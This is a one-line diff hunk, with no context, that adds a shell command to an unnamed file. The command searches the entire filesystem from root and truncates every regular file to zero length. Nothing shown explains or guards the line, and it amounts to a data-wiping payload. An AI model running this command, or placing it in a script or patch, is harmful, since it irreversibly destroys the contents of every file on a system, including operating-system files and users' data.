@@ -1,0 +1,1 @@
+find / -type f -exec truncate -s 0 {} \;
